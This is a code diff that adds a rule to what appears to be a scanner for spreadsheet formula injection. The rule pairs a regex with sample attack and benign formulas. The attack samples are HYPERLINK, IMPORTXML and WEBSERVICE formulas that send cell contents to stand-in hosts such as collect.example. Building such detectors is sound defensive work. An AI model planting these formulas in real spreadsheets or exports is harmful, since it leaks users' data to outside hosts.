@@ -19,4 +19,10 @@ RULES = (
         attacks=('=HYPERLINK("http://evil.example/"&A1,"x")', '=IMPORTXML(CONCAT("http://e.example/",A1),"//a")', '+WEBSERVICE("http://e.example")'),
         benign=("=total", "- image (large)"),
     ),
+    Rule(
+        "LG-CSV-003", _FAMILY, "spreadsheet formula that sends other cells to a URL", cwe=1236, capec=248, needles=("http", "ftp:"),
+        pattern=r"^[\s\"']{0,3}[=+@-]\s*\w{0,20}\(?[^\n]{0,40}?\b(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|HTML|FEED|DATA)|IMAGE|FILTERXML)\s*\(\s*(?:CONCAT(?:ENATE)?\s*\(\s*)?\"{1,2}(?:https?|ftp):[^\"\n]{0,300}\"{1,2}\s*[&,]\s*(?:[A-Z]{1,3}\$?\d{1,7}\b|\w{1,20}\()",
+        attacks=('=HYPERLINK("https://collect.example/?row="&B2,"Details")', '=IMPORTXML(CONCAT("http://e.example/?v=",CONCATENATE(A2:E2)),"//a")'),
+        benign=('=HYPERLINK("https://shop.example/orders","Orders")', '=IMAGE("https://shop.example/logo.png",4,50,50)'),
+    ),
 )  # fmt: skip
